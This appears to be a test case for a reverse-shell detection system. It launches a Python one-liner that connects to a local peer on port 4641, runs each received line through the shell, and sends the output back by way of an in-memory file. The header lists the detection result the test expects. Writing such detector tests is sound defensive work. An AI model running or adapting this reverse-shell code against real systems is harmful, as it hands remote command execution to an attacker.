# R39b: python sends memory with the output of each short command of a peer
# stage: behaviour
# within: 5500 ms
# expect: reverse_shell_detected
#   detection.reason: ~3 times in a row, over an outbound
#   detection.confidence: low
#   reverse_shell.process_list.0.process_id: $python
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4641
#   reverse_shell.process_list.length: 1

#: prepare
. lib/peers.sh
commander 4641 5 id 1.2
#: act
. lib/peers.sh
act
python3 -c 'import os, socket, subprocess
s = socket.create_connection(("127.0.0.1", 4641))
for l in s.makefile():
    m = os.memfd_create("x"); subprocess.run(l, shell=True, stdout=m)
    os.lseek(m, 0, 0); s.sendall(os.read(m, 65536)); os.close(m)' \
  < /dev/null > /dev/null 2>&1 & fact python $!
await 'at $python 3 socket:*'
